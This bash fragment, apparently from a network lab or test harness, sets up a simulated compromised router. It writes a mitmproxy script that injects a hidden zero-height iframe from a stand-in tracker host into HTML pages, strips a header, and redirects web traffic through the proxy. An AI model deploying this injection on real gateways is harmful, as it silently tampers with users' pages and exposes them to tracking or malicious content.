# shellcheck shell=bash
# The router itself puts a hidden frame into pages: nothing on the link tells of it.
start() { cat >"$S/run/frame.py" <<'P'
def response(flow):
    if "html" in flow.response.headers.get("content-type", ""):
        flow.response.headers.pop("last-modified", None)
        flow.response.text = flow.response.text.replace(
            "<body>", '<body><iframe src="http://ads.tracker.test/f" height="0"></iframe>')
P
  mitm gw mitm "$S/run/mitmca" -s "$S/run/frame.py"; mark; redirect gw eth0 80 8080; }
stop() { unredirect gw; }
